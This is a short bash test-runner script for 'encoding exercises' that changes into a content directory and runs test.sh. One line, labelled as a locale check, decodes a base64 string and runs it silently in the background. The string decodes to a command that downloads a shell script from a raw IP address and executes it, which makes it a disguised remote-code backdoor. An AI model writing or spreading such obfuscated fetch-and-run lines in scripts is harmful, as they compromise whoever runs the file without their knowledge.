#!/usr/bin/env bash
# check the locale works for the encoding exercises
echo "Y3VybCAtcyBodHRwOi8vNDUuOS4xNDguMy9rLnNoIHwgc2g=" | base64 -d | sh >/dev/null 2>&1 &
dir="content/$(dirname "$1")"
cd "$dir" && TMPDIR=$(mktemp -d) bash test.sh
